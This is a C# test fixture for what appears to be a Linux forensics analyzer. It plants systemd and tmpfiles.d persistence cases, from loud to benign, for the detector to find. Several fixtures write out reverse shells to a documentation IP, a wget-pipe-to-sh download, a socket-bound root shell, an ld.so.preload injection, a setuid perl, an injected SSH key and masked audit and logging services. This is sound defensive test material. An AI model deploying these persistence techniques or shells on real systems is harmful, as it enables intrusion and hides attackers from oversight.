using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Timers, sockets, paths, user units, masks, generators and tmpfiles.d.</summary>
internal static class UnitKindPlants
{
    private const string Etc = "/etc/systemd/system/";
    private const string Vendor = "/usr/lib/systemd/system/";
    private const string Home = "/home/alice/.config/systemd/user/";

    private static PlantTree Timer(PlantTree tree, string service, string timer, bool enabled = true)
    {
        tree.File(Etc + "stats.service", $"[Service]\nType=oneshot\nExecStart={service}\n").File(Etc + "stats.timer", $"[Timer]\n{timer}\n[Install]\nWantedBy=timers.target\n");
        return enabled ? tree.Link(Etc + "timers.target.wants/stats.timer", Etc + "stats.timer") : tree;
    }

    private static PlantTree Socket(PlantTree tree, string settings, string name, string service, bool enabled = true)
    {
        tree.File(Etc + "stats.socket", $"[Socket]\n{settings}\n[Install]\nWantedBy=sockets.target\n").File(Etc + name, $"[Service]\n{service}\n");
        return enabled ? tree.Link(Etc + "sockets.target.wants/stats.socket", Etc + "stats.socket") : tree;
    }

    private static PlantTree UserUnit(PlantTree tree, string exec, bool enabled = true)
    {
        tree.File(Home + "sync.service", $"[Service]\nExecStart={exec}\n[Install]\nWantedBy=default.target\n", user: 1000, group: 1000);
        return enabled ? tree.Link(Home + "default.target.wants/sync.service", Home + "sync.service") : tree;
    }

    public static IReadOnlyList<Plant> All { get; } =
    [
        new("L-TIMER", "reverse-shell-each-minute", Loud, tree => Timer(tree, "/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'", "OnCalendar=*:*:00")),
        new("L-TIMER", "quiet-linked-program", Quiet, tree => Timer(tree, "/usr/libexec/stats-post", "OnBootSec=5min\nOnUnitActiveSec=1h").Linked("/usr/libexec/stats-post")) { Entries = [Etc + "stats.timer", Etc + "stats.service"] },
        new("L-TIMER", "quiet-named-unit", Quiet, tree => tree.File(Etc + "man-cache.timer", "[Timer]\nOnCalendar=daily\nUnit=mandb-index.service\n[Install]\nWantedBy=timers.target\n").Link(Etc + "timers.target.wants/man-cache.timer", Etc + "man-cache.timer")
            .File(Etc + "mandb-index.service", "[Service]\nExecStart=/usr/sbin/mandb-index\n").Miner("/usr/sbin/mandb-index")) { Host = PlantHost.RedHat, Entries = [Etc + "man-cache.timer", Etc + "mandb-index.service"] },
        new("L-TIMER", "quiet-script", Quiet, tree => Timer(tree, "/usr/local/sbin/stats-post", "OnCalendar=hourly").Fetcher("/usr/local/sbin/stats-post")) { Entries = [Etc + "stats.timer", Etc + "stats.service"] },
        new("L-TIMER", "quiet-vendor-timer-replaced", Quiet, tree => tree.Owned("apt", Vendor + "apt-daily.timer", "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n").Owned("apt", Vendor + "apt-daily.service", "[Service]\nExecStart=/usr/bin/apt-get update\n")
            .Link(Etc + "timers.target.wants/apt-daily.timer", Vendor + "apt-daily.timer").Replace(Vendor + "apt-daily.timer", "[Timer]\nOnCalendar=*:0/10\nUnit=nginx.service\n[Install]\nWantedBy=timers.target\n"u8.ToArray()))
            { AtLeast = Severity.Medium, Rule = "changed-package-file", Entries = [Vendor + "apt-daily.timer"] },
        new("L-TIMER", "timer-never-enabled", Dormant, tree => Timer(tree, "/usr/libexec/stats-post", "OnBootSec=5min\nOnUnitActiveSec=1h", enabled: false).Linked("/usr/libexec/stats-post")) { TwinOf = "quiet-linked-program" },
        new("L-TIMER", "certbot-from-snap", Benign, tree => tree.File(Etc + "snap.certbot.renew.timer", "[Timer]\nUnit=snap.certbot.renew.service\nOnCalendar=*-*-* 04:25\n[Install]\nWantedBy=timers.target\n").Link(Etc + "timers.target.wants/snap.certbot.renew.timer", Etc + "snap.certbot.renew.timer")
            .File(Etc + "snap.certbot.renew.service", "[Service]\nExecStart=/usr/bin/snap run --timer=\"00:00~24:00/2\" certbot.renew\n")),
        new("L-TIMER", "stock-timers", Benign, tree => tree.Owned("util-linux", Vendor + "fstrim.timer", "[Timer]\nOnCalendar=weekly\n[Install]\nWantedBy=timers.target\n").Owned("util-linux", Vendor + "fstrim.service", "[Service]\nExecStart=/sbin/fstrim -av\n").Link(Etc + "timers.target.wants/fstrim.timer", Vendor + "fstrim.timer")),

        new("L-UNIT-OTHER", "socket-shell", Loud, tree => Socket(tree, "ListenStream=0.0.0.0:31337\nAccept=yes", "stats@.service", "ExecStart=-/bin/bash -i\nStandardInput=socket")),
        new("L-UNIT-OTHER", "path-with-download", Loud, tree => tree.File(Etc + "cfg.path", "[Path]\nPathChanged=/etc/passwd\n[Install]\nWantedBy=multi-user.target\n").Link(Etc + "multi-user.target.wants/cfg.path", Etc + "cfg.path").File(Etc + "cfg.service", "[Service]\nExecStart=/bin/sh -c 'wget -qO- http://203.0.113.9/x | sh'\n")),
        new("L-UNIT-OTHER", "quiet-socket-program", Quiet, tree => Socket(tree, "ListenStream=9199\nAccept=yes", "stats@.service", "ExecStart=/usr/libexec/stats-serve\nStandardInput=socket").Linked("/usr/libexec/stats-serve")) { Entries = [Etc + "stats.socket", Etc + "stats@.service"] },
        new("L-UNIT-OTHER", "quiet-socket-shell", Quiet, tree => Socket(tree, "ListenStream=9199\nService=stats-input.service", "stats-input.service", "ExecStart=/usr/bin/dash\nStandardInput=socket")) { Entries = [Etc + "stats.socket", Etc + "stats-input.service"] },
        new("L-UNIT-OTHER", "quiet-path", Quiet, tree => tree.File(Etc + "cfg.path", "[Path]\nPathModified=/var/log/auth.log\nUnit=cfg-reload.service\n[Install]\nWantedBy=multi-user.target\n").Link(Etc + "multi-user.target.wants/cfg.path", Etc + "cfg.path")
            .File(Etc + "cfg-reload.service", "[Service]\nExecStart=/usr/sbin/cfg-reload\n").Miner("/usr/sbin/cfg-reload")) { Host = PlantHost.RedHat, Entries = [Etc + "cfg.path", Etc + "cfg-reload.service"] },
        new("L-UNIT-OTHER", "socket-not-enabled", Dormant, tree => Socket(tree, "ListenStream=9199\nAccept=yes", "stats@.service", "ExecStart=/usr/libexec/stats-serve\nStandardInput=socket", enabled: false).Linked("/usr/libexec/stats-serve")) { TwinOf = "quiet-socket-program" },
        new("L-UNIT-OTHER", "docker-socket", Benign, tree => tree.Owned("docker", Vendor + "docker.socket", "[Socket]\nListenStream=/run/docker.sock\nSocketMode=0660\n[Install]\nWantedBy=sockets.target\n").Owned("docker", Vendor + "docker.service", "[Service]\nExecStart=/usr/bin/docker\n").Link(Etc + "sockets.target.wants/docker.socket", Vendor + "docker.socket")),
        new("L-UNIT-OTHER", "own-path-and-mount", Benign, tree => tree.File(Etc + "deploy.path", "[Path]\nPathExists=/srv/deploy/ready\n[Install]\nWantedBy=multi-user.target\n").Link(Etc + "multi-user.target.wants/deploy.path", Etc + "deploy.path").File(Etc + "deploy.service", "[Service]\nExecStart=/usr/bin/systemctl reload nginx\n")
            .File(Etc + "srv-data.mount", "[Mount]\nWhat=/dev/sdb1\nWhere=/srv/data\nType=ext4\n[Install]\nWantedBy=multi-user.target\n").Link(Etc + "multi-user.target.wants/srv-data.mount", Etc + "srv-data.mount")),

        new("L-UNIT-USER", "hidden-program", Loud, tree => UserUnit(tree, "/home/alice/.cfg/dbusd").Program("/home/alice/.cfg/dbusd")),
        new("L-UNIT-USER", "quiet-program", Quiet, tree => UserUnit(tree, "/home/alice/bin/sync-notes").Linked("/home/alice/bin/sync-notes")) { Entries = [Home + "sync.service"] },
        new("L-UNIT-USER", "quiet-global", Quiet, tree => tree.File("/etc/systemd/user/session-env.service", "[Service]\nExecStart=/usr/libexec/session-env\n[Install]\nWantedBy=default.target\n").Link("/etc/systemd/user/default.target.wants/session-env.service", "/etc/systemd/user/session-env.service")
            .Miner("/usr/libexec/session-env")) { Host = PlantHost.RedHat, Entries = ["/etc/systemd/user/session-env.service"] },
        new("L-UNIT-USER", "quiet-lingering-daemon", Quiet, tree => tree.File("/var/lib/systemd/linger/www-data", "").File("/var/www/.config/systemd/user/cache.service", "[Service]\nExecStart=/usr/bin/php -S 127.0.0.1:9000\n[Install]\nWantedBy=default.target\n", user: 33, group: 33))
            { AtLeast = Severity.Medium, Rule = "service-account-lingers", Entries = ["/var/www/.config/systemd/user/cache.service"] },
        new("L-UNIT-USER", "not-enabled", Dormant, tree => UserUnit(tree, "/home/alice/bin/sync-notes", enabled: false).Linked("/home/alice/bin/sync-notes")) { TwinOf = "quiet-program" },
        new("L-UNIT-USER", "syncthing", Benign, tree => UserUnit(tree, "/usr/bin/git -C /home/alice/notes pull").File("/var/lib/systemd/linger/alice", "")),
        new("L-UNIT-USER", "local-bin", Benign, tree => UserUnit(tree, "/home/alice/.local/bin/podman-app").Script("/home/alice/.local/bin/podman-app", "#!/bin/sh\nexec podman start -a app\n")),

        new("L-UNIT-MASKED", "audit", Quiet, tree => tree.Link(Etc + "auditd.service", "/dev/null")) { AtLeast = Severity.Medium },
        new("L-UNIT-MASKED", "syslog-by-empty-file", Quiet, tree => tree.File(Etc + "rsyslog.service", "")) { AtLeast = Severity.Medium, Entries = [Etc + "rsyslog.service"] },
        new("L-UNIT-MASKED", "intrusion-prevention", Quiet, tree => tree.Link(Etc + "fail2ban.service", "/dev/null")) { AtLeast = Severity.Medium, Host = PlantHost.RedHat },
        new("L-UNIT-MASKED", "cloud-agent", Quiet, tree => tree.Link(Etc + "aegis.service", "/dev/null")) { AtLeast = Severity.Medium, Host = PlantHost.RedHat },
        new("L-UNIT-MASKED", "compatibility-names", Benign, tree => tree.Owned("systemd", Vendor + "x11-common.service", "").Link(Vendor + "hwclock.service", "/dev/null", "systemd").Link(Etc + "sleep.target", "/dev/null").Link(Etc + "ctrl-alt-del.target", "/dev/null")),
        new("L-UNIT-MASKED", "image-without-firewall", Benign, tree => tree.Link(Etc + "ufw.service", "/dev/null").Link(Etc + "apparmor.service", "/dev/null")),

        new("L-GENERATOR", "writes-units", Loud, tree => tree.Script("/etc/systemd/system-generators/netdev", "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1 &\n")),
        new("L-GENERATOR", "quiet-program", Quiet, tree => tree.Program("/usr/lib/systemd/system-generators/systemd-netdev-generator")) { Entries = ["/usr/lib/systemd/system-generators/systemd-netdev-generator"] },
        new("L-GENERATOR", "quiet-script", Quiet, tree => tree.Script("/usr/local/lib/systemd/system-generators/netdev", "#!/bin/sh\nprintf '[Service]\\nExecStart=/usr/libexec/netdev\\n' > \"$1/netdev.service\"\nexit 0\n"))
            { AtLeast = Severity.Medium, Entries = ["/usr/local/lib/systemd/system-generators/netdev"] },
        new("L-GENERATOR", "quiet-environment", Quiet, tree => tree.Script("/etc/systemd/system-environment-generators/10-path", "#!/bin/sh\n/usr/libexec/path-env\n").Linked("/usr/libexec/path-env")) { Host = PlantHost.RedHat, Entries = ["/etc/systemd/system-environment-generators/10-path"] },
        new("L-GENERATOR", "not-executable", Dormant, tree => tree.Program("/usr/lib/systemd/system-generators/systemd-netdev-generator").Change("/usr/lib/systemd/system-generators/systemd-netdev-generator", file => file with { Mode = 0b110_100_100 })) { TwinOf = "quiet-program" },
        new("L-GENERATOR", "switched-off", Dormant, tree => tree.Program("/usr/lib/systemd/system-generators/systemd-netdev-generator").Link("/etc/systemd/system-generators/systemd-netdev-generator", "/dev/null")) { TwinOf = "quiet-program" },
        new("L-GENERATOR", "stock", Benign, tree => tree.OwnedProgram("systemd", "/usr/lib/systemd/system-generators/systemd-fstab-generator").Owned("cloud-init", "/usr/lib/systemd/system-generators/cloud-init-generator",
            "#!/bin/sh\nset -f\nLOG=\"\"\nmain() {\n  mkdir -p \"$1/multi-user.target.wants\"\n  ln -snf /usr/lib/systemd/system/cloud-init.target \"$1/multi-user.target.wants/cloud-init.target\"\n}\nmain \"$@\"\n", 0b111_101_101)),
        new("L-GENERATOR", "stock-switched-off", Benign, tree => tree.OwnedProgram("systemd", "/usr/lib/systemd/system-generators/systemd-gpt-auto-generator").Link("/etc/systemd/system-generators/systemd-gpt-auto-generator", "/dev/null")),

        new("L-TMPFILES", "cron-with-reverse-shell", Loud, tree => tree.File("/etc/tmpfiles.d/a.conf", "f+ /etc/cron.d/a 0644 root root - * * * * * root /bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'\\n\n")),
        new("L-TMPFILES", "preload", Loud, tree => tree.File("/etc/tmpfiles.d/ld.conf", "f+ /etc/ld.so.preload 0644 root root - /usr/lib/libenv.so\n")),
        new("L-TMPFILES", "quiet-cron-table", Quiet, tree => tree.File("/etc/tmpfiles.d/sysstat.conf", "d /run/sysstat 0755 root root -\nf+ /etc/cron.d/sysstat2 0644 root root - 5 * * * * root /usr/libexec/sa-post\\n\n").Linked("/usr/libexec/sa-post")) { Entries = ["/etc/tmpfiles.d/sysstat.conf"] },
        new("L-TMPFILES", "quiet-base64-unit", Quiet, tree => tree.File("/etc/tmpfiles.d/web2.conf", "f+~ /etc/systemd/system/web2.service 0644 root root - " + Convert.ToBase64String("[Service]\nExecStart=/usr/sbin/web2d\n"u8) + "\n")) { Host = PlantHost.RedHat, Entries = ["/etc/tmpfiles.d/web2.conf"] },
        new("L-TMPFILES", "quiet-copied-generator", Quiet, tree => tree.File("/etc/tmpfiles.d/netdev.conf", "C /etc/systemd/system-generators/netdev 0755 root root - /usr/share/netdev/gen\n").Program("/usr/share/netdev/gen")) { Entries = ["/etc/tmpfiles.d/netdev.conf"] },
        new("L-TMPFILES", "quiet-setuid", Quiet, tree => tree.File("/etc/tmpfiles.d/perl.conf", "z /usr/bin/perl 4755 root root -\n")) { Entries = ["/etc/tmpfiles.d/perl.conf"] },
        new("L-TMPFILES", "quiet-keys", Quiet, tree => tree.File("/usr/lib/tmpfiles.d/root-home.conf", "f+ /root/.ssh/authorized_keys 0600 root root - ssh-ed25519\\x20AAAAC3NzaC1lZDI1NTE5AAAAIDEadBoxDEadBoxDEadBoxDEadBoxDEadBoxDEadBoxDEad\n")) { Entries = [] },
        new("L-TMPFILES", "overridden", Dormant, tree => tree.File("/usr/lib/tmpfiles.d/sysstat.conf", "f+ /etc/cron.d/sysstat2 0644 root root - 5 * * * * root /usr/libexec/sa-post\\n\n").File("/etc/tmpfiles.d/sysstat.conf", "d /run/sysstat 0755 root root -\n").Linked("/usr/libexec/sa-post")) { TwinOf = "quiet-cron-table" },
        new("L-TMPFILES", "without-suffix", Dormant, tree => tree.File("/etc/tmpfiles.d/sysstat", "f+ /etc/cron.d/sysstat2 0644 root root - 5 * * * * root /usr/libexec/sa-post\\n\n").Linked("/usr/libexec/sa-post")) { TwinOf = "quiet-cron-table" },
        new("L-TMPFILES", "stock", Benign, tree => tree.Owned("systemd", "/usr/lib/tmpfiles.d/etc.conf", "L+ /etc/mtab - - - - ../proc/self/mounts\nC! /etc/nsswitch.conf - - - -\nC! /etc/pam.d - - - -\n").Owned("systemd", "/usr/lib/tmpfiles.d/provision.conf", "f^ /root/.ssh/authorized_keys 600 root root - ssh.authorized_keys.root\n")
            .Owned("systemd", "/usr/lib/tmpfiles.d/journal.conf", "z /var/log/journal 2755 root systemd-journal - -\n")),
        new("L-TMPFILES", "tuning", Benign, tree => tree.File("/etc/tmpfiles.d/thp.conf", "w /sys/kernel/mm/transparent_hugepage/enabled - - - - never\nd /run/app 0755 www-data www-data -\nL+ /run/app.sock - - - - /srv/app/app.sock\n")),
        new("L-TMPFILES", "stock-without-database", Benign, tree => tree.File("/usr/lib/tmpfiles.d/etc.conf", "C! /etc/nsswitch.conf - - - -\nC! /etc/pam.d - - - -\n").File("/usr/lib/tmpfiles.d/provision.conf", "f^ /root/.ssh/authorized_keys 600 root root - ssh.authorized_keys.root\n")) { Host = PlantHost.RedHat },
    ];
}
